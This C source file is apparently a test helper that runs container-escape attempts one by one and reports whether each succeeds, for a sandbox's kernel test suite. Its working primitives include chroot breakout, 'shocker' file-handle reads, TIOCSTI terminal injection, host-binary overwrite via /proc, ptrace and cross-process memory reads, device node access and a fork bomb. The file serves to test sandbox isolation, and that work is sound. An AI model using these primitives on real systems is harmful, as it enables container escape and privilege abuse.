/* One attack per word of the first argument. Prints the errno it failed with, or 0 when it worked, and nothing else on
 * its standard output. Statically linked and put into images by tests/kernel/conftest.py; also run outside a container,
 * to see that an attack is one.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <mqueue.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CALL(name) {#name, SYS_##name}

static const struct {
    const char *name;
    long number;
} calls[] = {
    CALL(acct), CALL(add_key), CALL(adjtimex), CALL(bpf), CALL(clock_adjtime), CALL(clock_settime), CALL(clone3),
    CALL(delete_module), CALL(fanotify_init), CALL(finit_module), CALL(fsopen), CALL(fspick), CALL(getpid),
    CALL(init_module), CALL(io_uring_setup), CALL(kcmp), CALL(kexec_load), CALL(keyctl), CALL(lookup_dcookie),
    CALL(mbind), CALL(mount), CALL(mount_setattr), CALL(move_mount), CALL(move_pages), CALL(nfsservctl),
    CALL(open_tree), CALL(perf_event_open), CALL(personality), CALL(pidfd_open), CALL(pivot_root), CALL(process_vm_readv),
    CALL(ptrace), CALL(quotactl), CALL(reboot), CALL(request_key), CALL(set_mempolicy), CALL(setdomainname),
    CALL(sethostname), CALL(setns), CALL(swapoff), CALL(swapon), CALL(syslog), CALL(umount2), CALL(unshare),
    CALL(userfaultfd), CALL(vhangup), CALL(clone),
#ifdef SYS_iopl
    CALL(iopl), CALL(ioperm),
#endif
#ifdef SYS_kexec_file_load
    CALL(kexec_file_load),
#endif
};

static int argc_;
static char **argv_;
static char zeroes[4096];

static const char *word(int i) { return i < argc_ ? argv_[i] : ""; }
static long number(int i) { return (long)strtoull(word(i), NULL, 0); }
static int code(long result) { return result < 0 ? errno : 0; }

/* A number, "@text" for a pointer to that text, "z" for a pointer to zeroes. */
static long argument(int i) {
    const char *text = word(i);
    if (text[0] == '@')
        return (long)(uintptr_t)(text + 1);
    return text[0] == 'z' ? (long)(uintptr_t)zeroes : number(i);
}

/* call NAME [ARGUMENT...]: any system call; a number stands for itself. */
static int a_call(void) {
    long nr = -1;
    for (size_t i = 0; i < sizeof calls / sizeof *calls; i++)
        if (strcmp(calls[i].name, word(2)) == 0)
            nr = calls[i].number;
    if (nr < 0)
        nr = number(2);
    long rc = syscall(nr, argument(3), argument(4), argument(5), argument(6), argument(7), argument(8));
    if (rc == 0 && nr == SYS_clone) /* the child */
        _exit(0);
    return code(rc);
}

/* bpf: load the smallest program there is. */
static int a_bpf(void) {
    struct bpf_insn program[] = {{.code = 0xb7}, {.code = 0x95}}; /* r0 = 0; exit */
    union bpf_attr attr = {.prog_type = BPF_PROG_TYPE_CGROUP_DEVICE,
                           .insn_cnt = 2,
                           .insns = (uintptr_t)program,
                           .license = (uintptr_t) "GPL"};
    return code(syscall(SYS_bpf, BPF_PROG_LOAD, &attr, sizeof attr));
}

/* perf: watch the whole machine. */
static int a_perf(void) {
    struct perf_event_attr attr = {.type = PERF_TYPE_SOFTWARE, .size = sizeof attr, .config = PERF_COUNT_SW_CPU_CLOCK};
    return code(syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0));
}

/* clone3 FLAGS */
static int a_clone3(void) {
    uint64_t args[11] = {(uint64_t)number(2), 0, 0, 0, SIGCHLD};
    long pid = syscall(SYS_clone3, args, sizeof args);
    if (pid == 0)
        _exit(0);
    return code(pid);
}

/* socket FAMILY TYPE */
static int a_socket(void) { return code(socket((int)number(2), (int)number(3), 0)); }

/* open PATH [FLAGS]: and read or write nothing. */
static int a_open(void) { return code(open(word(2), (int)number(3))); }

/* write PATH TEXT */
static int a_write(void) {
    int fd = open(word(2), O_WRONLY);
    return fd < 0 ? errno : code(write(fd, word(3), strlen(word(3))));
}

/* read PATH: prints what it read on standard error. */
static int dump(int fd) {
    char data[4096];
    ssize_t n = read(fd, data, sizeof data);
    if (n < 0)
        return errno;
    return write(2, data, (size_t)n) < 0 ? errno : 0;
}
static int a_read(void) {
    int fd = open(word(2), O_RDONLY | O_NONBLOCK);
    return fd < 0 ? errno : dump(fd);
}

/* device TYPE MAJOR MINOR: make a node of it, and read from it. */
static int a_device(void) {
    const char *path = "/tmp/attack-device";
    mode_t mode = word(2)[0] == 'b' ? S_IFBLK : S_IFCHR;
    (void)unlink(path);
    if (mknod(path, mode | 0600, makedev((unsigned)number(3), (unsigned)number(4))) < 0)
        return errno;
    char byte;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    int failed = fd < 0 ? errno : read(fd, &byte, 1) < 0 && errno != EAGAIN ? errno : 0;
    (void)unlink(path);
    return failed;
}

/* handle PATH TYPE HEX: open a file by its handle in the file system of PATH ("shocker", 2014). */
static int a_handle(void) {
    struct {
        struct file_handle head;
        unsigned char bytes[MAX_HANDLE_SZ];
    } handle = {0};
    const char *hex = word(4);
    unsigned n = (unsigned)strlen(hex) / 2;
    if (n > MAX_HANDLE_SZ)
        return EINVAL;
    handle.head.handle_bytes = n;
    handle.head.handle_type = (int)number(3);
    for (unsigned i = 0; i < n; i++) {
        unsigned byte;
        if (sscanf(hex + 2 * i, "%2x", &byte) != 1)
            return EINVAL;
        handle.head.f_handle[i] = (unsigned char)byte;
    }
    int at = open(word(2), O_RDONLY | O_DIRECTORY);
    if (at < 0)
        return errno;
    int fd = open_by_handle_at(at, &handle.head, O_RDONLY);
    return fd < 0 ? errno : dump(fd);
}

/* kill PID SIGNAL */
static int a_kill(void) { return code(kill((pid_t)number(2), (int)number(3))); }

/* ptrace PID */
static int a_ptrace(void) {
    pid_t pid = (pid_t)number(2);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return errno;
    (void)ptrace(PTRACE_DETACH, pid, 0, 0); /* refused when it has not stopped; our end detaches in any case */
    return 0;
}

/* readv PID ADDRESS: read the memory of another process. */
static int a_readv(void) {
    char data[8];
    struct iovec here = {data, sizeof data}, there = {(void *)number(3), sizeof data};
    return code(process_vm_readv((pid_t)number(2), &here, 1, &there, 1, 0));
}

/* abstract NAME: connect to a socket in the abstract namespace. */
static int a_abstract(void) {
    struct sockaddr_un at = {.sun_family = AF_UNIX};
    size_t n = strlen(word(2));
    if (n + 1 > sizeof at.sun_path)
        return EINVAL;
    memcpy(at.sun_path + 1, word(2), n);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    return fd < 0 ? errno : code(connect(fd, (struct sockaddr *)&at, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n)));
}

/* shm KEY, msg KEY, mq NAME: find an object of System V or POSIX IPC that somebody else made. */
static int a_shm(void) { return code(shmget((key_t)number(2), 0, 0)); }
static int a_msg(void) { return code(msgget((key_t)number(2), 0)); }
static int a_mq(void) { return code(mq_open(word(2), O_RDONLY)); }

/* tiocsti FD: type into a terminal (CVE-2017-5226). */
static int a_tiocsti(void) {
    const char *text = "x";
    return code(ioctl((int)number(2), TIOCSTI, text));
}

/* ctty FD: make it our controlling terminal first, then type. */
static int a_ctty(void) {
    if (ioctl((int)number(2), TIOCSCTTY, 1) < 0)
        return errno;
    return a_tiocsti();
}

/* fds: the descriptors above 2 that came with us, on standard error; fails with EBADF when there are none. */
static int a_fds(void) {
    int found = 0;
    for (int fd = 3; fd < 65536; fd++)
        if (fcntl(fd, F_GETFD) >= 0)
            found = dprintf(2, "%d ", fd);
    return found ? 0 : EBADF;
}

/* fchmod FD MODE, fchown FD UID */
static int a_fchmod(void) { return code(fchmod((int)number(2), (mode_t)number(3))); }
static int a_fchown(void) { return code(fchown((int)number(2), (uid_t)number(3), (gid_t)-1)); }

/* setuid ID, setgroups ID */
static int a_setuid(void) { return code(setuid((uid_t)number(2))); }
static int a_setgroups(void) {
    gid_t id = (gid_t)number(2);
    return code(syscall(SYS_setgroups, 1, &id));
}

/* root: be root by way of a setuid program, which this is then a copy of. */
static int a_root(void) { return geteuid() == 0 ? 0 : EPERM; }

/* search DESCRIPTION: find a key in the session keyring we were born with. */
static int a_search(void) {
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", word(2), 0);
    return code(id);
}

/* plant DESCRIPTION PROGRAM...: put a key into the session keyring, then run a program in it. */
static int a_plant(void) {
    if (syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, "attack") < 0 ||
        syscall(SYS_add_key, "user", word(2), "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
        return errno;
    (void)execv(word(3), argv_ + 3);
    return errno;
}

/* breakout PATH: the old way out of a chroot; prints what a file holds that is seen from there, on standard error. */
static int a_breakout(void) {
    (void)mkdir("/tmp/breakout", 0700);
    if (chdir("/") < 0 || chroot("/tmp/breakout") < 0)
        return errno;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return errno;
    if (chroot(".") < 0)
        return errno;
    return a_read();
}

/* overwrite PATH TEXT: wait until the program at PATH is not running any more, then write over it. */
static int a_overwrite(void) {
    int pinned = open(word(2), O_PATH | O_CLOEXEC);
    if (pinned < 0)
        return errno;
    char self[64];
    (void)snprintf(self, sizeof self, "/proc/self/fd/%d", pinned);
    for (int i = 0; i < 100; i++) {
        int fd = open(self, O_WRONLY);
        if (fd >= 0)
            return code(write(fd, word(3), strlen(word(3))));
        if (errno != ETXTBSY)
            return errno;
        struct timespec nap = {0, 2000000};
        (void)nanosleep(&nap, NULL);
    }
    return ETXTBSY;
}

/* swap A B SECONDS: exchange two names over and over. */
static int a_swap(void) {
    struct timespec start, now;
    (void)clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        for (int i = 0; i < 100; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, word(2), AT_FDCWD, word(3), 2) < 0)
                return errno;
        (void)clock_gettime(CLOCK_MONOTONIC, &now);
    } while (now.tv_sec - start.tv_sec < number(4));
    return 0;
}

/* forks: make processes until it is refused; how many there were on standard error. */
static int a_forks(void) {
    for (int i = 0; i < 5000; i++) {
        pid_t pid = fork();
        if (pid < 0) {
            int failed = errno;
            (void)dprintf(2, "%d", i);
            return failed;
        }
        if (pid == 0) {
            (void)pause();
            _exit(0);
        }
    }
    return 0;
}

/* memory MEGABYTES: use that much. */
static int a_memory(void) {
    size_t size = (size_t)number(2) << 20;
    char *data = malloc(size);
    if (!data)
        return errno;
    memset(data, 1, size);
    return data[size / 2] == 1 ? 0 : EFAULT;
}

/* clock: seconds of the monotonic clock on standard error. */
static int a_clock(void) {
    struct timespec now;
    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return dprintf(2, "%lld", (long long)now.tv_sec) < 0 ? errno : 0;
}

#define ATTACK(name) {#name, a_##name}
static const struct {
    const char *name;
    int (*run)(void);
} attacks[] = {
    ATTACK(call), ATTACK(bpf), ATTACK(perf), ATTACK(clone3), ATTACK(socket), ATTACK(open), ATTACK(write), ATTACK(read),
    ATTACK(device), ATTACK(handle), ATTACK(kill), ATTACK(ptrace), ATTACK(readv), ATTACK(abstract), ATTACK(shm), ATTACK(msg),
    ATTACK(mq), ATTACK(tiocsti), ATTACK(ctty), ATTACK(fds), ATTACK(fchmod), ATTACK(fchown), ATTACK(setuid),
    ATTACK(setgroups), ATTACK(root), ATTACK(search), ATTACK(plant), ATTACK(breakout), ATTACK(overwrite), ATTACK(swap),
    ATTACK(forks), ATTACK(memory), ATTACK(clock),
};

int main(int argc, char **argv) {
    argc_ = argc;
    argv_ = argv;
    for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
        if (strcmp(attacks[i].name, word(1)) == 0)
            return printf("%d\n", attacks[i].run()) < 0;
    (void)fprintf(stderr, "no such attack: %s\n", word(1));
    return 2;
}
